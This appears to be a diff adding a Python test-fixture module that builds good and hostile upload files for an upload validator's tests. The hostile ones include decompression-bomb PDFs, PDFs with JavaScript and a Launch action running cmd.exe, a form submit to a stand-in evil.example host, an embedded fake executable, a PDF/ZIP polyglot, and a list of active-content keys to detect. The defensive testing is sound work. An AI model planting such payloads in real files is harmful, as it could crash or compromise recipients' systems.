@@ -1,0 +1,412 @@
+"""Generated test corpus of good and hostile upload files (PDF, JPEG, PNG and impostors).
+
+Every factory returns bytes. HOSTILE_CASES maps a case name to (factory, expected HTTP status,
+expected rejection code) so that unit tests and HTTP tests share one table.
+"""
+
+from __future__ import annotations
+
+import functools
+import io
+import struct
+import zlib
+from collections.abc import Callable
+from typing import NamedTuple
+
+from PIL import Image
+from pypdf import PdfWriter
+from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject
+
+MB = 1_000_000
+
+
+# --- good files -------------------------------------------------------------------------
+
+
+def _content_stream(text: str) -> DecodedStreamObject:
+    stream = DecodedStreamObject()
+    stream.set_data(f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))
+    return stream
+
+
+def pdf_pages(count: int = 1, label: str = "page") -> bytes:
+    """A valid PDF with `count` letter-size pages, each with a line of text."""
+    writer = PdfWriter()
+    font = writer._add_object(
+        DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Font"),
+                NameObject("/Subtype"): NameObject("/Type1"),
+                NameObject("/BaseFont"): NameObject("/Helvetica"),
+            }
+        )
+    )
+    for number in range(1, count + 1):
+        page = writer.add_blank_page(612, 792)
+        page[NameObject("/Resources")] = DictionaryObject(
+            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
+        )
+        page[NameObject("/Contents")] = writer._add_object(_content_stream(f"{label} {number}"))
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def jpeg(width: int = 400, height: int = 300, exif_orientation: int | None = None) -> bytes:
+    image = Image.new("RGB", (width, height), (200, 30, 30))
+    for x in range(0, width, 7):
+        image.putpixel((x, x % height), (0, 0, 0))
+    buffer = io.BytesIO()
+    if exif_orientation is None:
+        image.save(buffer, "JPEG", quality=85)
+    else:
+        exif = Image.Exif()
+        exif[0x0112] = exif_orientation
+        image.save(buffer, "JPEG", quality=85, exif=exif.tobytes())
+    return buffer.getvalue()
+
+
+def png(width: int = 300, height: int = 200, mode: str = "RGB") -> bytes:
+    color: tuple[int, ...] | int
+    if mode == "RGBA":
+        color = (10, 120, 200, 128)
+    elif mode in ("L", "P"):
+        color = 90
+    elif mode == "I;16":
+        color = 30000
+    else:
+        color = (10, 120, 200)
+    image = Image.new(mode, (width, height), color)
+    buffer = io.BytesIO()
+    image.save(buffer, "PNG")
+    return buffer.getvalue()
+
+
+def png_palette_with_alpha() -> bytes:
+    image = Image.new("P", (64, 64), 1)
+    image.putpalette([255, 255, 255, 200, 0, 0] + [0] * 762)
+    buffer = io.BytesIO()
+    image.save(buffer, "PNG", transparency=0)
+    return buffer.getvalue()
+
+
+def jpeg_cmyk() -> bytes:
+    buffer = io.BytesIO()
+    Image.new("CMYK", (120, 80), (0, 200, 200, 0)).save(buffer, "JPEG")
+    return buffer.getvalue()
+
+
+def big_pdf(target_bytes: int = 11 * MB) -> bytes:
+    """A valid one-page PDF padded with an unreferenced incompressible stream to the size."""
+    base = pdf_pages(1)
+    # A comment line before the trailer-less tail keeps the file valid but large.
+    padding = b"%" + b"x" * (target_bytes - len(base)) + b"\n"
+    return base + padding
+
+
+# --- hand-written raw PDFs --------------------------------------------------------------
+
+
+def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
+    """A PDF from object bodies numbered 1..n, with a correct xref table."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref_at = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    for offset in offsets:
+        out += b"%010d 00000 n \n" % offset
+    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
+    return bytes(out)
+
+
+def _stream(dictionary: bytes, data: bytes) -> bytes:
+    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
+
+
+_PAGE_CONTENT = b"BT /F1 12 Tf 72 720 Td (hello) Tj ET"
+
+
+def _simple_objects(page_extra: bytes = b"", catalog_extra: bytes = b"") -> list[bytes]:
+    return [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+        + page_extra
+        + b">>",
+        _stream(b"", _PAGE_CONTENT),
+    ]
+
+
+def truncated_pdf() -> bytes:
+    whole = pdf_pages(3)
+    return whole[: len(whole) // 2]
+
+
+def garbage_after_header() -> bytes:
+    return b"%PDF-1.7\n" + bytes(range(256)) * 40
+
+
+def broken_xref() -> bytes:
+    good = raw_pdf(_simple_objects())
+    # Point startxref into the middle of an object and scramble the xref table.
+    head, _, _ = good.rpartition(b"startxref")
+    head = head.replace(b"xref\n0 5", b"xref\n0 9").replace(b" n \n", b" q \n")
+    return head + b"startxref\n17\n%%EOF\n"
+
+
+def cyclic_page_tree() -> bytes:
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        # The inner node lists its own parent as a kid: the tree is a cycle.
+        b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
+        b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R 2 0 R] /Count 2 >>",
+        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
+        _stream(b"", _PAGE_CONTENT),
+    ]
+    return raw_pdf(objects)
+
+
+@functools.lru_cache(maxsize=4)
+def flate_bomb(inflated_bytes: int = 1024 * 1024 * 1024) -> bytes:
+    """A one-page PDF whose content stream inflates to `inflated_bytes` (1 GiB) of spaces."""
+    compressor = zlib.compressobj(9)
+    chunk = b" " * (4 * 1024 * 1024)
+    parts = []
+    for _ in range(inflated_bytes // len(chunk)):
+        parts.append(compressor.compress(chunk))
+    parts.append(compressor.flush())
+    data = b"".join(parts)
+    objects = _simple_objects()
+    objects[3] = _stream(b"/Filter /FlateDecode", data)
+    return raw_pdf(objects)
+
+
+def many_small_streams_bomb(streams: int = 12, each: int = 10 * MB) -> bytes:
+    """Each stream is under any per-stream limit, their total is not."""
+    compressor_data = zlib.compress(b"\0" * each, 9)
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ["
+        + b" ".join(b"%d 0 R" % (4 + index) for index in range(streams))
+        + b"] >>",
+    ]
+    objects += [_stream(b"/Filter /FlateDecode", compressor_data) for _ in range(streams)]
+    return raw_pdf(objects)
+
+
+def long_length() -> bytes:
+    objects = _simple_objects()
+    objects[3] = b"<< /Length 99999999999999 >>\nstream\n" + _PAGE_CONTENT + b"\nendstream"
+    return raw_pdf(objects)
+
+
+def _encrypted(user_password: str, owner_password: str) -> bytes:
+    writer = PdfWriter(clone_from=io.BytesIO(pdf_pages(2)))
+    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="AES-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def user_password_pdf() -> bytes:
+    return _encrypted("rahasia", "pemilik")
+
+
+def owner_password_only_pdf() -> bytes:
+    return _encrypted("", "pemilik")
+
+
+def javascript_pdf() -> bytes:
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >>"
+        b" /AA << /WC 5 0 R >> /AcroForm << /Fields [] /XFA 8 0 R >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+        b" /AA << /O 5 0 R >> /Annots [7 0 R] >>",
+        _stream(b"", _PAGE_CONTENT),
+        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
+        b"<< /Names [(x) 5 0 R] >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
+        b" /A << /S /JavaScript /JS (app.alert\\(1\\)) /Next 5 0 R >> /AA << /E 5 0 R >> >>",
+        _stream(b"", b"<xdp:xdp></xdp:xdp>"),
+    ]
+    return raw_pdf(objects)
+
+
+def launch_pdf() -> bytes:
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+        b" /Annots [6 0 R 7 0 R] >>",
+        _stream(b"", _PAGE_CONTENT),
+        b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 100 100 200]"
+        b" /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>",
+    ]
+    return raw_pdf(objects)
+
+
+def embedded_file_pdf() -> bytes:
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >>"
+        b" >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+        b" /Annots [7 0 R 8 0 R] >>",
+        _stream(b"", _PAGE_CONTENT),
+        b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
+        _stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really an exe"),
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
+        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10]"
+        b" /RichMediaContent << /Assets << /Names [(a.swf) 5 0 R] >> >> >>",
+    ]
+    return raw_pdf(objects)
+
+
+def pdf_zip_polyglot() -> bytes:
+    buffer = io.BytesIO()
+    import zipfile
+
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("payload.exe", b"MZ" + b"\0" * 200)
+    return pdf_pages(1) + buffer.getvalue()
+
+
+def exe_file() -> bytes:
+    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 500 + b"This program cannot be run"
+
+
+def zip_file() -> bytes:
+    buffer = io.BytesIO()
+    import zipfile
+
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("ktp.pdf", pdf_pages(1))
+    return buffer.getvalue()
+
+
+def text_file() -> bytes:
+    return b"Nama: Budi\nNIK: 3171234567890001\n"
+
+
+def _png_chunk(kind: bytes, data: bytes) -> bytes:
+    return (
+        struct.pack(">I", len(data))
+        + kind
+        + data
+        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+    )
+
+
+def huge_png(width: int = 20000, height: int = 20000) -> bytes:
+    """A PNG whose header claims width x height pixels; the data is a tiny stub."""
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 1024))
+        + _png_chunk(b"IEND", b"")
+    )
+
+
+def empty() -> bytes:
+    return b""
+
+
+# --- the shared table --------------------------------------------------------------------
+
+
+class HostileCase(NamedTuple):
+    factory: Callable[[], bytes]
+    status: int
+    code: str
+
+
+# Single-file cases: upload this file alone and expect the status and code.
+HOSTILE_CASES: dict[str, HostileCase] = {
+    "empty": HostileCase(empty, 422, "empty_file"),
+    "truncated": HostileCase(truncated_pdf, 422, "pdf_damaged"),
+    "garbage_after_header": HostileCase(garbage_after_header, 422, "pdf_damaged"),
+    "broken_xref": HostileCase(broken_xref, 422, "pdf_damaged"),
+    "cyclic_page_tree": HostileCase(cyclic_page_tree, 422, "pdf_damaged"),
+    "flate_bomb_1gb": HostileCase(flate_bomb, 422, "pdf_bomb"),
+    "many_streams_bomb": HostileCase(many_small_streams_bomb, 422, "pdf_bomb"),
+    "long_length": HostileCase(long_length, 422, "pdf_damaged"),
+    "user_password": HostileCase(user_password_pdf, 422, "pdf_password_protected"),
+    "exe": HostileCase(exe_file, 415, "unsupported_type"),
+    "zip_named_pdf": HostileCase(zip_file, 415, "unsupported_type"),
+    "text": HostileCase(text_file, 415, "unsupported_type"),
+    "png_20000x20000": HostileCase(huge_png, 422, "image_too_large"),
+    "pages_31": HostileCase(functools.partial(pdf_pages, 31), 422, "too_many_pages"),
+    "file_11mb": HostileCase(big_pdf, 413, "file_too_large"),
+}
+
+# Files that are accepted, but only after active content is stripped (or foreign data dropped).
+SANITISED_CASES: dict[str, Callable[[], bytes]] = {
+    "javascript": javascript_pdf,
+    "launch": launch_pdf,
+    "embedded_file": embedded_file_pdf,
+    "pdf_zip_polyglot": pdf_zip_polyglot,
+    "owner_password_only": owner_password_only_pdf,
+}
+
+# Files that are accepted as they are, with their page count.
+GOOD_CASES: dict[str, tuple[Callable[[], bytes], int]] = {
+    "pdf_3_pages": (functools.partial(pdf_pages, 3), 3),
+    "jpeg": (jpeg, 1),
+    "jpeg_exif_rotated": (functools.partial(jpeg, 400, 300, 6), 1),
+    "jpeg_exif_mirrored": (functools.partial(jpeg, 400, 300, 5), 1),
+    "jpeg_cmyk": (jpeg_cmyk, 1),
+    "png": (png, 1),
+    "png_alpha": (functools.partial(png, 300, 200, "RGBA"), 1),
+    "png_palette_alpha": (png_palette_with_alpha, 1),
+    "png_16bit": (functools.partial(png, 50, 40, "I;16"), 1),
+    "png_grey": (functools.partial(png, 50, 40, "L"), 1),
+    "pdf_30_pages": (functools.partial(pdf_pages, 30), 30),
+}
+
+# Names and values an active-content scan must never find in a stored PDF.
+ACTIVE_KEYS = (
+    "/JavaScript",
+    "/JS",
+    "/OpenAction",
+    "/AA",
+    "/Launch",
+    "/EmbeddedFiles",
+    "/EmbeddedFile",
+    "/RichMedia",
+    "/XFA",
+    "/SubmitForm",
+)
+
+
+def multipart_body(
+    files: list[tuple[str, bytes]],
+    field: str = "files",
+    boundary: str = "----jhtBoundary7MA4YWxkTrZu0gW",
+    extra_fields: dict[str, str] | None = None,
+) -> tuple[str, bytes]:
+    """(Content-Type header, body) of a multipart/form-data upload of (file name, bytes)."""
+    parts = []
+    for name, value in (extra_fields or {}).items():
+        parts.append(
+            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
+            + value.encode()
+            + b"\r\n"
+        )
+    for filename, data in files:
+        parts.append(
+            f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; '
+            f'filename="{filename}"\r\nContent-Type: application/pdf\r\n\r\n'.encode()
+            + data
+            + b"\r\n"
+        )
+    parts.append(f"--{boundary}--\r\n".encode())
+    return f"multipart/form-data; boundary={boundary}", b"".join(parts)
